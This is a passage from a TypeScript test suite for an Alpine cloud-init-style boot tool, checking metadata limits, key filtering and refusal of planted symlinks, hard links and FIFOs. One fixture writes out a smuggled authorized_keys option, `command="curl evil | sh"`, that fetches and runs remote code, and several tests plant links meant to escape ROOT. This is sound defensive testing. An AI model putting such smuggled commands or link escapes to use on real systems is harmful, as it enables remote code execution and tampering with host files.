      expect(yield* ask(Buffer.concat([...Array.from({ length: 64 }, () => tiny), Buffer.from("\n")]), 10_000)).toMatchObject({ _tag: "Right", right: "a".repeat(64) })
      expect(yield* ask(Buffer.concat([...Array.from({ length: 65 }, () => tiny), Buffer.from("\n")]), 10_000)).toMatchObject({ _tag: "Left", left: { reason: "the answer's gzip coding is corrupt" } })
    })
  )

  it.scopedLive("a NoCloud seed stored gzipped, served with its Content-Encoding, gives its hostname, keys and user-data", () =>
    Effect.gen(function* () {
      const userData = "#cloud-config\nwrite_files:\n  - path: /etc/coded\n    content: read\n"
      const instance = yield* makeTestInstance({ cloud: "nocloud", instance: { hostname: "coded.example", sshKeys: [KEY_A], userData: bytesOf(userData) }, faults: { gzip: true } })
      expect(instance.sim!.requests).toHaveLength(0)
      const results = yield* instance.boot()
      expect(results.map((r) => r.code)).toEqual([0, 0, 0, 0])
      expect(instance.sim!.requests.filter((q) => q.status === 200).length).toBeGreaterThan(0)
      expect(instance.read("/etc/hostname")).toBe("coded\n")
      expect(instance.read("/home/alpine/.ssh/authorized_keys")).toBe(`${KEY_A}\n`)
      expect(instance.read("/var/lib/cloud/user-data")).toBe(userData)
      expect(instance.read("/etc/coded")).toBe("read")
    })
  )
})

describe("unbounded key lists", () => {
  it.scopedLive("a listing past IMDS_MAX_KEYS fails before any key is fetched; indices are fetched once each", () =>
    Effect.gen(function* () {
      const many = Array.from({ length: 20_000 }, (_, i) => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${i} k${i}`)
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h", sshKeys: many } })
      const r = yield* instance.imds(["@ssh-keys"])
      expect(r).toEqual({ code: 1, stdout: "", stderr: `imds: aws: cannot read http://${instance.sim!.endpoint}/latest/meta-data/public-keys/: more than 1000 keys (IMDS_MAX_KEYS)\n` })
      expect(instance.sim!.requests.filter((q) => q.path.includes("openssh-key"))).toHaveLength(0)
      const duplicated = yield* makeTestInstance({
        cloud: "aws",
        instance: { hostname: "h", sshKeys: [KEY_A] },
        faults: { overrides: [{ path: "/latest/meta-data/public-keys/", body: "0=a\n0=a\n0=b\n00=c\n000=d\n" }] }
      })
      expect((yield* duplicated.imds(["@ssh-keys"])).stdout).toBe(`${KEY_A}\n`)
      expect(duplicated.sim!.requests.filter((q) => q.path.includes("openssh-key"))).toHaveLength(1)
    })
  )

  it.scopedLive.each(["aws", "digitalocean"])("%s: a key list of exactly IMDS_MAX_KEYS keys is read whole; one key more fails it", (cloud) =>
    Effect.gen(function* () {
      // aws's is a listing, refused before its keys are fetched; digitalocean's one list, refused as a whole
      const keys = Array.from({ length: 4 }, (_, i) => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${i} k${i}`)
      const exactly = yield* makeTestInstance({ cloud, instance: { hostname: "h", sshKeys: keys.slice(0, 3) } })
      expect(yield* exactly.imds(["@ssh-keys"], { IMDS_MAX_KEYS: "3" })).toEqual({ code: 0, stdout: `${keys.slice(0, 3).join("\n")}\n`, stderr: "" })
      const more = yield* makeTestInstance({ cloud, instance: { hostname: "h", sshKeys: keys } })
      const r = yield* more.imds(["@ssh-keys"], { IMDS_MAX_KEYS: "3" })
      expect({ code: r.code, stdout: r.stdout }).toEqual({ code: 1, stdout: "" })
      expect(r.stderr).toMatch(/^imds: [a-z]+: cannot read \S+: more than 3 keys \(IMDS_MAX_KEYS\)\n$/)
      if (cloud === "aws") expect(more.sim!.requests.filter((q) => q.path.includes("openssh-key"))).toHaveLength(0)
    })
  )

  it.scopedLive("a key list that cannot be used (past IMDS_MAX_KEYS, or IMDS_MAX_BYTES) fails set_ssh_keys alone: the user-data's own keys and azure's ready report still come", () =>
    Effect.gen(function* () {
      const many = Array.from({ length: 1500 }, (_, i) => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMany${i} k${i}`)
      const userData = bytesOf(`#alpine-config\nssh_authorized_keys:\n  - ${KEY_C}\n`)
      const instance = yield* makeTestInstance({ cloud: "azure", instance: { hostname: "h", sshKeys: many, userData } })
      expect((yield* instance.run(["early"])).code).toBe(0)
      const main = yield* instance.run(["main"])
      expect(main.code).toBe(1)
      expect(main.stderr).toMatch(/\nset_ssh_keys: azure: cannot read \S+: more than 1000 keys \(IMDS_MAX_KEYS\)\n {3}\+\+ set_ssh_keys: failed\n/)
      expect(actionLines(main.stderr).slice(-4)).toEqual(["   ++ ssh_authorized_keys: starting", "   ++ ssh_authorized_keys: done", "   ++ report_ready: starting", "   ++ report_ready: done"])
      expect(instance.read("/home/alpine/.ssh/authorized_keys")).toBe(`${KEY_C}\n`)
      // a listing past IMDS_MAX_BYTES the same
      const large = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h", sshKeys: [KEY_A], userData }, faults: { overrides: [{ path: "/latest/meta-data/public-keys/", fill: 2 * MiB }] } })
      expect((yield* large.run(["early"])).code).toBe(0)
      const again = yield* large.run(["main"])
      expect(again.code).toBe(1)
      expect(again.stderr).toContain(`\nset_ssh_keys: aws: cannot read http://${large.sim!.endpoint}/latest/meta-data/public-keys/: answer exceeds 1048576 bytes (IMDS_MAX_BYTES)\n`)
      expect(actionLines(again.stderr).slice(-2)).toEqual(["   ++ ssh_authorized_keys: starting", "   ++ ssh_authorized_keys: done"])
      expect(large.read("/home/alpine/.ssh/authorized_keys")).toBe(`${KEY_C}\n`)
    })
  )

  it.scopedLive("metadata that came and is not the JSON or YAML it should be fails the actions that read it alone; a service answering 500 still stops main", () =>
    Effect.gen(function* () {
      const userData = bytesOf(`#alpine-config\nssh_authorized_keys:\n  - ${KEY_C}\n`)
      const main = (cloud: "hetzner" | "openstack" | "nocloud", path: string, status = 200, env: Record<string, string> = {}) =>
        Effect.gen(function* () {
          const instance = yield* makeTestInstance({ cloud, instance: { hostname: "h", sshKeys: [KEY_A], userData }, faults: { overrides: [{ path, status, body: "{not: [json" }] }, env })
          expect((yield* instance.run(["early"])).code).toBe(0)
          const r = yield* instance.run(["main"])
          return { code: r.code, stderr: r.stderr, actions: actionLines(r.stderr).filter((l) => !l.includes("userdata_")), keys: instance.read("/home/alpine/.ssh/authorized_keys"), url: `http://${instance.sim!.endpoint}${path}` }
        })
      const done = (action: string) => [`   ++ ${action}: starting`, `   ++ ${action}: done`]
      const failed = (action: string) => [`   ++ ${action}: starting`, `   ++ ${action}: failed`]
      // four instances of their own, run at once; the one whose service answers 500 waits out a short IMDS_DEADLINE
      const [hetzner, openstack, nocloud, down] = yield* Effect.all(
        [
          main("hetzner", "/hetzner/v1/metadata/public-keys"),
          main("openstack", "/openstack/latest/meta_data.json"),
          main("nocloud", "/seed/meta-data"),
          main("hetzner", "/hetzner/v1/metadata/public-keys", 500, { IMDS_DEADLINE: "0.5" })
        ],
        { concurrency: "unbounded" }
      )
      // hetzner's key list is not a JSON list: set_ssh_keys fails, the user-data's own key is still installed
      expect(hetzner.stderr).toContain(`\nset_ssh_keys: hetzner: cannot read ${hetzner.url}: invalid JSON: Expected property name or '}' in JSON at position 1\n`)
      expect({ code: hetzner.code, actions: hetzner.actions, keys: hetzner.keys }).toEqual({
        code: 1,
        actions: [...done("create_default_user"), ...done("set_hostname"), ...failed("set_ssh_keys"), ...done("ssh_authorized_keys")],
        keys: `${KEY_C}\n`
      })
      // openstack's meta_data.json, where both the host name and the keys are: each fails alone, in the same line
      const invalid = `cannot read ${openstack.url}: invalid JSON: Expected property name or '}' in JSON at position 1\n`
      expect(openstack.stderr).toContain(`\nset_hostname: openstack: ${invalid}`)
      expect(openstack.stderr).toContain(`\nset_ssh_keys: openstack: ${invalid}`)
      expect({ code: openstack.code, actions: openstack.actions, keys: openstack.keys }).toEqual({
        code: 1,
        actions: [...done("create_default_user"), ...failed("set_hostname"), ...failed("set_ssh_keys"), ...done("ssh_authorized_keys")],
        keys: `${KEY_C}\n`
      })
      // a NoCloud meta-data that is no YAML the same
      expect(nocloud.stderr).toMatch(/\nset_hostname: nocloud: cannot read meta-data: invalid YAML: [^\n]+\n/)
      expect({ code: nocloud.code, actions: nocloud.actions, keys: nocloud.keys }).toEqual({
        code: 1,
        actions: [...done("create_default_user"), ...failed("set_hostname"), ...failed("set_ssh_keys"), ...done("ssh_authorized_keys")],
        keys: `${KEY_C}\n`
      })
      // a service that cannot be read (the key list answering 500 until IMDS_DEADLINE) still stops main there (BEHAVIOUR.md 4)
      expect(down.stderr).toContain(`\nset_ssh_keys: hetzner: cannot read ${down.url}: HTTP 500\n`)
      expect({ code: down.code, actions: down.actions, keys: down.keys }).toEqual({ code: 1, actions: [...done("create_default_user"), ...done("set_hostname"), ...failed("set_ssh_keys")], keys: undefined })
    })
  )
})

describe("unbounded keys", () => {
  it.scopedLive("a key past the most an SSH key may be is left out with a warning; the others are installed, and memory stays bounded", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({
        cloud: "aws",
        instance: { hostname: "h", sshKeys: [KEY_A, KEY_B] },
        faults: { overrides: [{ path: "/latest/meta-data/public-keys/1/openssh-key", fill: 1000 * 1024 }] }
      })
      const r = yield* instance.imds(["@ssh-keys"])
      expect(r.stdout).toBe(`${KEY_A}\n`)
      expect(r.stderr).toBe(`aws: cannot read http://${instance.sim!.endpoint}/latest/meta-data/public-keys/1/openssh-key: answer exceeds 16384 bytes (the most an SSH key may be); the key is left out\n`)
      expect(r.code).toBe(0)
      const main = yield* instance.run(["main"])
      expect(main.code).toBe(0)
      expect(main.stderr).toContain("/latest/meta-data/public-keys/1/openssh-key: answer exceeds 16384 bytes (the most an SSH key may be); the key is left out\n")
      expect(instance.read("/home/alpine/.ssh/authorized_keys")).toBe(`${KEY_A}\n`)
      // memory bounded: an answer is read no further than the limit a read gives it
      yield* cutOffAt(16384)
    })
  )

  it.scopedLive("under an IMDS_MAX_BYTES below the most an SSH key may be, a key past IMDS_MAX_BYTES is left out, the line naming IMDS_MAX_BYTES: every answer is held to it", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({
        cloud: "aws",
        instance: { hostname: "h", sshKeys: [KEY_A, KEY_B] },
        env: { IMDS_MAX_BYTES: "8192" },
        faults: { overrides: [{ path: "/latest/meta-data/public-keys/1/openssh-key", fill: 10000 }] }
      })
      const r = yield* instance.imds(["@ssh-keys"])
      expect(r.stdout).toBe(`${KEY_A}\n`)
      expect(r.stderr).toBe(`aws: cannot read http://${instance.sim!.endpoint}/latest/meta-data/public-keys/1/openssh-key: answer exceeds 8192 bytes (IMDS_MAX_BYTES); the key is left out\n`)
      expect(r.code).toBe(0)
    })
  )
})

describe("authorized_keys", () => {
  it.scopedLive("a key from the metadata is one line: a smuggled second line with options is dropped with a warning", () =>
    Effect.gen(function* () {
      const smuggled = `${KEY_A}\ncommand="curl evil | sh" ${KEY_B}`
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { sshKeys: [smuggled, "not a key at all"] } })
      const main = yield* instance.run(["main"])
      expect(main.code).toBe(0)
      expect(instance.read("/home/alpine/.ssh/authorized_keys")).toBe(`${KEY_A}\n`)
      expect(main.stderr).toContain("set_ssh_keys: 2 lines that are not OpenSSH public keys, or have options in front of them dropped\n")
      expect(main.stderr).not.toContain("curl")
      // imds @ssh-keys prints the same keys, for scripts that write authorized_keys themselves
      const said = "imds: @ssh-keys: 2 lines that are not OpenSSH public keys, or have options in front of them, left out\n"
      expect(yield* instance.imds(["@ssh-keys"])).toEqual({ code: 0, stdout: `${KEY_A}\n`, stderr: said })
      expect(yield* instance.imds(["-E", "@ssh-keys"])).toEqual({ code: 0, stdout: `${KEY_A}\n`, stderr: "" })
      // one such line is said in the singular, as set_ssh_keys says it
      const one = yield* makeTestInstance({ cloud: "aws", instance: { sshKeys: [KEY_A, "not a key at all"] } })
      expect(yield* one.imds(["@ssh-keys"])).toEqual({ code: 0, stdout: `${KEY_A}\n`, stderr: "imds: @ssh-keys: 1 line that is not an OpenSSH public key, or has options in front of it, left out\n" })
    })
  )

  it.scopedLive("a key holding a NUL or another control character (DEL too) is dropped with a warning: authorized_keys stays text", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { sshKeys: [`${KEY_A}\0evil`, `${KEY_B} b\x1b[2Jx`, `${KEY_A} rub\x7fout`, KEY_C] } })
      const main = yield* instance.run(["main"])
      expect(main.code).toBe(0)
      // before, the first two were written as served, the NUL and the escape sequence with them
      expect(instance.read("/home/alpine/.ssh/authorized_keys")).toBe(`${KEY_C}\n`)
      expect(main.stderr).toContain("set_ssh_keys: 3 lines that are not OpenSSH public keys, or have options in front of them dropped\n")
      expect(yield* instance.imds(["@ssh-keys"])).toEqual({ code: 0, stdout: `${KEY_C}\n`, stderr: "imds: @ssh-keys: 3 lines that are not OpenSSH public keys, or have options in front of them, left out\n" })
    })
  )

  it.scopedLive("a cloud serving only lines that are no keys leaves authorized_keys as it was: no ssh key found", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { sshKeys: ["not a key at all", `command="sh" ${KEY_A}`] } })
      yield* instance.run(["main"], { INIT_ACTIONS_MAIN: "create_default_user" })
      instance.write("/home/alpine/.ssh/authorized_keys", `${KEY_C}\n`)
      const main = yield* instance.run(["main"], { INIT_ACTIONS_MAIN: "set_ssh_keys" })
      expect(main.code).toBe(0)
      expect(main.stderr).toContain("set_ssh_keys: 2 lines that are not OpenSSH public keys, or have options in front of them dropped\nset_ssh_keys: no ssh key found\n")
      // before, it was replaced by an empty file: the image's own key was gone
      expect(instance.read("/home/alpine/.ssh/authorized_keys")).toBe(`${KEY_C}\n`)
    })
  )

  it.scopedLive("a key the cloud serves twice, spaced apart differently, is written once", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { sshKeys: [`${KEY_A}\n${KEY_B}`, KEY_B.replace(" ", "\t ")] } })
      expect((yield* instance.run(["main"])).code).toBe(0)
      expect(instance.read("/home/alpine/.ssh/authorized_keys")).toBe(`${KEY_A}\n${KEY_B}\n`)
    })
  )

  it.scopedLive("the user's own user-data may put options in front of a key", () =>
    Effect.gen(function* () {
      const doc = `#cloud-config\nssh_authorized_keys:\n  - 'from="10.0.0.0/8",no-pty ${KEY_B}'\n  - "${KEY_A}\\nbogus line"\n`
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytesOf(doc) } })
      const early = yield* instance.run(["early"])
      // said when the document is checked, as tiny-cloud schema says it: the line, not the entry, whose key is installed
      expect(early.stderr).toContain("save_userdata: line 4: ssh_authorized_keys[1]: 1 of its lines is not an OpenSSH public key; that line left out, its keys kept\n")
      const main = yield* instance.run(["main"])
      expect(instance.read("/home/alpine/.ssh/authorized_keys")).toBe(`from="10.0.0.0/8",no-pty ${KEY_B}\n${KEY_A}\n`)
      // said once: not again when the keys are installed
      expect(main.stderr).not.toContain("not an OpenSSH public key")
    })
  )
})

describe("files whose names are near the 255-byte limit", () => {
  // a temporary's name adds about 20 bytes to its file's, and a file name is at most 255: busybox takes user names up to 255
  it.scopedLive("a file whose name is near the 255-byte limit is written: a 245-character user's doas rules, write_files paths of 250 bytes (in letters and in 2-byte characters)", () =>
    Effect.gen(function* () {
      const user = "u".repeat(245)
      const [ascii, wide] = ["f".repeat(250), "é".repeat(125)]
      const doc = `#cloud-config\nusers:\n  - default\n  - name: ${user}\n    doas: ["permit nopass ${user}"]\nwrite_files:\n  - {path: /srv/${ascii}, content: a}\n  - {path: /srv/${wide}, content: w}\n`
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytesOf(doc) } })
      instance.write("/etc/doas.d/keep", "")
      expect((yield* instance.run(["early"])).code).toBe(0)
      const main = yield* instance.run(["main"])
      expect(main.stderr).not.toContain("too long")
      expect(main.code).toBe(0)
      expect(instance.read(`/etc/doas.d/${user}.conf`)).toContain(`permit nopass ${user}`)
      expect([instance.read(`/srv/${ascii}`), instance.read(`/srv/${wide}`)]).toEqual(["a", "w"])
      expect(readdirSync(join(instance.root, "srv")).sort()).toEqual([ascii, wide].sort())
    })
  )
})

describe("links planted in the image", () => {
  it.scopedLive("write_files through directory links (absolute and relative) stays inside ROOT, its chown too", () =>
    Effect.gen(function* () {
      const away = yield* outside
      const alsoAway = yield* outside
      const doc = `#cloud-config\nwrite_files:\n  - path: /srv/abs/owned\n    content: "a\\n"\n    owner: nobody:nogroup\n  - path: /srv/rel/owned\n    content: "r\\n"\n`
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytesOf(doc) } })
      mkdirSync(join(instance.root, "srv"), { recursive: true })
      symlinkSync(away, join(instance.root, "srv/abs"))
      // enough `..` to climb out of any ROOT, then down to the other directory
      symlinkSync("../../../../../../../../../..".concat(alsoAway), join(instance.root, "srv/rel"))
      yield* instance.run(["early"])
      expect((yield* instance.run(["main"])).code).toBe(0)
      expect(existsSync(join(away, "owned"))).toBe(false)
      expect(existsSync(join(alsoAway, "owned"))).toBe(false)
      expect(instance.read(`${away}/owned`)).toBe("a\n")
      expect(instance.read(`${alsoAway}/owned`)).toBe("r\n")
      expect(instance.commands().filter((c) => c.startsWith("chown "))).toEqual([
        // the directory made for the file (the link's target inside ROOT) gets the file's owner, as cloud-init gives it
        `chown -h nobody:nogroup ${instance.root}${away}`,
        `chown -h nobody:nogroup ${instance.root}${away}/owned`,
        `chown -h root:root ${instance.root}${alsoAway}/owned`
      ])
    })
  )

  it.scopedLive("append through a link to a file outside ROOT reads and writes the one inside", () =>
    Effect.gen(function* () {
      const away = yield* outside
      writeFileSync(join(away, "secret"), "host secret\n")
      const doc = `#cloud-config\nwrite_files:\n  - path: /etc/motd\n    content: "appended\\n"\n    append: true\n`
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytesOf(doc) } })
      symlinkSync(join(away, "secret"), join(instance.root, "etc/motd"))
      yield* instance.run(["early"])
      yield* instance.run(["main"])
      expect(readFileSync(join(away, "secret"), "utf8")).toBe("host secret\n")
      expect(instance.read(`${away}/secret`)).toBe("appended\n")
    })
  )

  it.scopedLive.each([
    ["bootcmd and runcmd", "#cloud-config\nbootcmd:\n  - touch \"$ROOT/tmp/bootcmd\"\nruncmd:\n  - touch \"$ROOT/tmp/runcmd\"\n", ["bootcmd", "runcmd"], ["user-data.bootcmd", "user-data.runcmd"]],
    ["a user-data script", "#!/bin/sh\ntouch \"$ROOT/tmp/script\"\n", ["script"], ["user-data"]],
    ["multipart scripts", 'Content-Type: multipart/mixed; boundary="B"\n\n--B\nContent-Type: text/x-shellscript\n\n#!/bin/sh\ntouch "$ROOT/tmp/part"\n--B--\n', ["part"], ["user-data.parts/01"]]
  ] as const)("%s: the state directory a link out of ROOT, the programs run are those written inside ROOT, never the host's files where the link leads", ([, doc, marks, programs]) =>
    Effect.gen(function* () {
      const away = yield* outside
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytesOf(doc) } })
      // the host's files at the link's target, which a kernel following the link would run
      mkdirSync(join(away, "user-data.parts"))
      for (const program of programs) writeFileSync(join(away, program), `#!/bin/sh\ntouch "${away}/host-program-ran"\n`, { mode: 0o700 })
      rmSync(join(instance.root, "var/lib/cloud"), { recursive: true, force: true })
      symlinkSync(away, join(instance.root, "var/lib/cloud"))
      for (const phase of ["early", "main", "final"]) expect((yield* instance.run([phase])).code).toBe(0)
      expect(existsSync(join(away, "host-program-ran"))).toBe(false)
      for (const mark of marks) expect(instance.read(`/tmp/${mark}`)).toBe("")
      expect(instance.read(`${away}/.bootstrap-complete`)).toBe("")
    })
  )

  it.scopedLive("a linked ~/.ssh is refused: nothing is made, changed or written outside ROOT", () =>
    Effect.gen(function* () {
      const away = yield* outside
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { sshKeys: [KEY_A] } })
      instance.write("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\nalpine:x:1000:1000::/home/alpine:/bin/sh\n")
      mkdirSync(join(instance.root, "home/alpine"), { recursive: true })
      symlinkSync(away, join(instance.root, "home/alpine/.ssh"))
      const main = yield* instance.run(["main"])
      expect(main.code).toBe(1)
      expect(main.stderr).toContain(`set_ssh_keys: mkdir ${instance.root}/home/alpine/.ssh: is a symbolic link; refused\n`)
      expect(execFileSync("ls", ["-A", away]).toString()).toBe("")
    })
  )

  it.scopedLive("a linked authorized_keys is refused", () =>
    Effect.gen(function* () {
      const away = yield* outside
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { sshKeys: [KEY_A] } })
      instance.write("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\nalpine:x:1000:1000::/home/alpine:/bin/sh\n")
      mkdirSync(join(instance.root, "home/alpine/.ssh"), { recursive: true })
      symlinkSync(join(away, "keys"), join(instance.root, "home/alpine/.ssh/authorized_keys"))
      const main = yield* instance.run(["main"])
      expect(main.stderr).toContain(`set_ssh_keys: write ${instance.root}/home/alpine/.ssh/authorized_keys: is a symbolic link; refused\n`)
      expect(existsSync(join(away, "keys"))).toBe(false)
    })
  )
})

describe("the guest API's socket behind a link", () => {
  /** a unix socket server outside every ROOT that counts the connections it gets */
  const listening = (path: string) =>
    Effect.acquireRelease(
      Effect.async<{ readonly connections: () => number; readonly close: () => void }>((resume) => {
        let connections = 0
        const server = createServer((socket) => {
          connections++
          socket.destroy()
        })
        server.listen(path, () => resume(Effect.succeed({ connections: () => connections, close: () => server.close() })))
      }),
      (s) => Effect.sync(() => s.close())
    )

  it.scopedLive.each(["a socket outside ROOT", "nothing (dangling)"])("a link to %s is followed inside ROOT, as a chroot would: no connection leaves ROOT, one line names the socket it leads to", (to) =>
    Effect.gen(function* () {
      const away = yield* outside
      const server = yield* listening(join(away, "sock"))
      const instance = yield* makeTestInstance({ noSimulator: true, env: { CLOUD: "incus", IMDS_DEADLINE: "0.3" } })
      mkdirSync(join(instance.root, "dev/incus"), { recursive: true })
      const target = to === "a socket outside ROOT" ? join(away, "sock") : "/run/incus/gone.sock"
      symlinkSync(target, join(instance.root, "dev/incus/sock"))
      const r = yield* instance.imds(["@hostname"])
      expect(r).toEqual({ code: 1, stdout: "", stderr: `imds: incus: cannot read unix:${instance.root}${target}:/1.0/meta-data: no such socket\n` })
      expect(server.connections()).toBe(0)
    })
  )
})

describe("the guest API's socket behind links no chroot could follow", () => {
  it.scopedLive("a link to itself (/dev/incus -> /dev/incus, which the kernel would follow to the host's /dev/incus) fails every read at once, naming the socket", () =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ noSimulator: true, env: { CLOUD: "incus" } })
      mkdirSync(join(instance.root, "dev"), { recursive: true })
      symlinkSync("/dev/incus", join(instance.root, "dev/incus"))
      const line = `incus: cannot read unix:${instance.root}/dev/incus/sock: too many levels of symbolic links\n`
      expect(yield* instance.imds(["@hostname"])).toEqual({ code: 1, stdout: "", stderr: `imds: ${line}` })
      const main = yield* instance.run(["main"])
      expect(main.code).toBe(1)
      expect(main.stderr).toContain(`set_hostname: ${line}`)
    })
  )
})

describe("things that are not regular files", () => {
  it.scopedLive.each(["a regular file", "a directory", "a FIFO"])("%s where the guest API's socket should be: one line, 'not a socket', as asking again cannot change it", (what) =>
    Effect.gen(function* () {
      const instance = yield* makeTestInstance({ noSimulator: true, env: { CLOUD: "incus" } })
      const socket = join(instance.root, "dev/incus/sock")
      mkdirSync(join(instance.root, "dev/incus"), { recursive: true })
      if (what === "a regular file") writeFileSync(socket, "")
      else if (what === "a directory") mkdirSync(socket)
      else execFileSync("mkfifo", [socket])
      const r = yield* instance.imds(["@hostname"])
      expect(r).toEqual({ code: 1, stdout: "", stderr: `imds: incus: cannot read unix:${socket}:/1.0/meta-data: not a socket\n` })
    })
  )

  it.scopedLive("write_files never replaces a device, a pipe or a directory", () =>
    Effect.gen(function* () {
      const doc = `#cloud-config\nwrite_files:\n  - path: /dev/null\n    content: "x"\n  - path: /run/fifo\n    content: "x"\n  - path: /etc\n    content: "x"\n  - path: /etc/fine\n    content: "fine\\n"\n`
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytesOf(doc) } })
      mkdirSync(join(instance.root, "dev"), { recursive: true })
      mkdirSync(join(instance.root, "run"), { recursive: true })
      if (process.getuid?.() === 0) execFileSync("mknod", [join(instance.root, "dev/null"), "c", "1", "3"])
      else execFileSync("mkfifo", [join(instance.root, "dev/null")])
      execFileSync("mkfifo", [join(instance.root, "run/fifo")])
      yield* instance.run(["early"])
      const main = yield* instance.run(["main"])
      for (const p of ["/dev/null", "/run/fifo", "/etc"]) expect(main.stderr).toContain(`write_files: cannot write ${p}: not a regular file; refused\n`)
      expect(instance.read("/etc/fine")).toBe("fine\n")
      expect(actionLines(main.stderr)).toContain("   ++ userdata_write_files: failed")
    })
  )
})

describe("files that are not regular, and the program's own files behind links", () => {
  it.scopedLive("a read never waits on a pipe or reads a device without end: a seed user-data that is a FIFO, an append to a device", () =>
    Effect.gen(function* () {
      const doc = "#cloud-config\nwrite_files:\n  - path: /run/fifo\n    content: x\n    append: true\n"
      const instance = yield* makeTestInstance({ noSimulator: true, env: { CLOUD: "nocloud" } })
      instance.write("/var/lib/cloud/seed/nocloud/meta-data", "local-hostname: n1\n")
      mkdirSync(join(instance.root, "run"), { recursive: true })
      execFileSync("mkfifo", [join(instance.root, "run/fifo"), join(instance.root, "var/lib/cloud/seed/nocloud/user-data")])
      const early = yield* instance.run(["early"])
      expect(early.stderr).toContain("save_userdata: nocloud: cannot read user-data: not a regular file; refused\n")
      // only the user-data's reads fail: the meta-data's hostname is set
      expect((yield* instance.run(["main"])).code).toBe(0)
      expect(instance.read("/etc/hostname")).toBe("n1\n")
      // the same append on a first boot whose user-data is there
      const aws = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytesOf(doc) } })
      mkdirSync(join(aws.root, "run"), { recursive: true })
      execFileSync("mkfifo", [join(aws.root, "run/fifo")])
      yield* aws.run(["early"])
      const main = yield* aws.run(["main"])
      expect(main.stderr).toContain("not a regular file; refused")
      expect(actionLines(main.stderr)).toContain("   ++ userdata_write_files: failed")
    })
  )

  it.scopedLive("user-data.log: a link in its place is not followed; a linked log directory is the one inside ROOT", () =>
    Effect.gen(function* () {
      const dir = yield* outside
      writeFileSync(join(dir, "victim"), "untouched\n")
      const instance = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytesOf("#!/bin/sh\necho script-output\n") } })
      mkdirSync(join(instance.root, "var/log"), { recursive: true })
      symlinkSync(join(dir, "victim"), join(instance.root, "var/log/user-data.log"))
      yield* instance.run(["early"])
      const final = yield* instance.run(["final"])
      expect(readFileSync(join(dir, "victim"), "utf8")).toBe("untouched\n")
      expect(actionLines(final.stderr)).toContain("   ++ run_userdata: failed")
      // said as the other files' refusals are, not in the system's words (ELOOP's "too many symbolic links")
      expect(final.stderr).toContain("/var/log/user-data.log: is a symbolic link; refused\n")
      expect(final.stderr).not.toContain("ELOOP")
      // nor a link to a file of the instance's own: the log is no way to append to /etc/shadow
      const inside = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytesOf("#!/bin/sh\necho script-output\n") } })
      inside.write("/etc/victim", "untouched\n")
      mkdirSync(join(inside.root, "var/log"), { recursive: true })
      symlinkSync("../../etc/victim", join(inside.root, "var/log/user-data.log"))
      yield* inside.run(["early"])
      expect(actionLines((yield* inside.run(["final"])).stderr)).toContain("   ++ run_userdata: failed")
      expect(inside.read("/etc/victim")).toBe("untouched\n")
      // a directory in its place: no regular file either
      const taken = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytesOf("#!/bin/sh\necho script-output\n") } })
      mkdirSync(join(taken.root, "var/log/user-data.log"), { recursive: true })
      yield* taken.run(["early"])
      const takenFinal = yield* taken.run(["final"])
      expect(takenFinal.stderr).toContain("/var/log/user-data.log: not a regular file; refused\n")
      expect(takenFinal.stderr).not.toContain("EISDIR")
      // /var/log itself a link to a directory of the host: the log goes where that path is inside ROOT
      const moved = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytesOf("#!/bin/sh\necho script-output\n") } })
      rmSync(join(moved.root, "var/log"), { recursive: true, force: true })
      symlinkSync(dir, join(moved.root, "var/log"))
      yield* moved.run(["early"])
      expect((yield* moved.run(["final"])).code).toBe(0)
      expect(existsSync(join(dir, "user-data.log"))).toBe(false)
      expect(readFileSync(join(moved.root, dir, "user-data.log"), "utf8")).toBe("script-output\n")
    })
  )

  it.scopedLive("user-data.log a hard link to a file outside it (left in an image): neither a script's run nor runcmd's append empties, writes or chmods that file; one line naming the log", () =>
    Effect.gen(function* () {
      const plant = (instance: { readonly root: string }) => {
        // beside ROOT, on its file system (a hard link needs one): the host's file, readable by all
        const victim = join(instance.root, "..", "victim")
        writeFileSync(victim, "untouched\n", { mode: 0o644 })
        chmodSync(victim, 0o644)
        mkdirSync(join(instance.root, "var/log"), { recursive: true })
        linkSync(victim, join(instance.root, "var/log/user-data.log"))
        return victim
      }
      const script = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytesOf("#!/bin/sh\necho script-output\n") } })
      const victim = plant(script)
      yield* script.run(["early"])
      const final = yield* script.run(["final"])
      expect([readFileSync(victim, "utf8"), statSync(victim).mode & 0o777]).toEqual(["untouched\n", 0o644])
      // (as for a symbolic link there: the script is not run without its log)
      expect(final.stderr).toContain(`: cannot write ${script.root}/var/log/user-data.log: is a hard link; refused\n`)
      expect(actionLines(final.stderr)).toContain("   ++ run_userdata: failed")
      const runcmd = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytesOf("#cloud-config\nruncmd:\n  - echo run-output\n") } })
      const other = plant(runcmd)
      yield* runcmd.run(["early"])
      const ran = yield* runcmd.run(["final"])
      expect([readFileSync(other, "utf8"), statSync(other).mode & 0o777]).toEqual(["untouched\n", 0o644])
